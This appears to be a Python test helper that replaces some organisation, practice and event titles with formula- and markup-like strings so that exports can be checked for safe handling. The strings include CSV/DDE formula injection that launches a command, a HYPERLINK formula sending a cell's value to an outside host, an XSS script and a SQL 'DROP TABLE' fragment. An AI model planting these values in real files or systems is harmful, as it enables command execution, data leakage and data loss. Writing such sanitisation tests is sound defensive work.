"""Free texts that look like formulas or markup: they must arrive as they are and leave every export harmless."""

from __future__ import annotations

import polars as pl

_TEXTS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"Отчёт")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('РСНМС')</script>",
    "+7 (000) 000-00-00; DROP TABLE",
    "Школа «Рассвет» <b>№ 1</b> & Ко",
)
#: columns with free text; titles of programmes, which other sources repeat, stay as they are
_COLUMNS = {"organizations": "org_name", "practices": "title", "support_events": "event_title"}


def season(source: str, rows: pl.DataFrame) -> pl.DataFrame:
    """The rows with a few of the free texts replaced; a text is replaced by the same one in every delivery."""
    column = _COLUMNS.get(source)
    if column is None:
        return rows
    chosen = rows[column].unique(maintain_order=True)[1 : len(_TEXTS) + 1].to_list()
    return rows.with_columns(rows[column].replace(chosen, list(_TEXTS[: len(chosen)])))
